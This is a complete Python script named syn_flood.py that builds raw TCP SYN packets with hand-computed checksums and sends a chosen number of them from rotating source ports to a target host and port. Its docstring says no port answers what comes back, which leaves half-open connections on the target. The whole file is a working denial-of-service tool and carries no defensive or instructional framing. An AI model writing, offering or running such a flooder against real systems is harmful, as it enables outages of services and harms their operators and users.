#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""syn_flood.py SOURCE DESTINATION PORT NUMBER: SYNs from so many ports of SOURCE, none of which answers what comes back."""
import socket
import struct
import sys

FIRST_PORT = 1024
PORTS = 60000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    source, destination, port, number = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    out.bind((source, 0))
    for i in range(number):
        head = struct.pack("!HHIIBBH", FIRST_PORT + i % PORTS, port, i, 0, 6 << 4, 2, 65535)
        options = struct.pack("!BBH", 2, 4, 1460)
        total = checksum(ends + struct.pack("!HH", 6, len(head) + 4 + len(options)) + head + bytes(4) + options)
        out.sendto(head + struct.pack("!HH", total, 0) + options, (destination, 0))


if __name__ == "__main__":
    main()
